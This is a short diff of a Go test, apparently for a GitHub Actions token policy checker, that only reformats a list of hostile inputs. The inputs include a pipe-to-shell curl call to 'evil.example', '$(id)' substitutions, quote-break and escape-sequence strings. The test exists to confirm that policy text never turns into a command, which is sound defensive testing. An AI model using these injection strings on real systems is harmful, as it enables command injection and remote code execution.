@@ -203,7 +203,8 @@ func TestAPolicyThatIsMoreThanCanBeLookedAtIsUndecided(t *testing.T) {
 func TestNoTextOfAPolicyBecomesACommandAProgramOrAnEscape(t *testing.T) {
 	const issuer = "token.actions.githubusercontent.com"
 	for _, evil := range []string{
-		"1;curl evil.example|sh", "$(id)", "`id`", "1' ; id #", "7\n8", "\x1b[2J", "\u202e7", "x\"), evil(\"", "a: b # c",
+		"1;curl evil.example|sh", "$(id)", "`id`", "1' ; id #", "7\n8", "\x1b[2J", "\u202e7", "x\"), evil(\"",
+		"a: b # c",
 	} {
 		for _, claims := range []map[string]any{
 			{
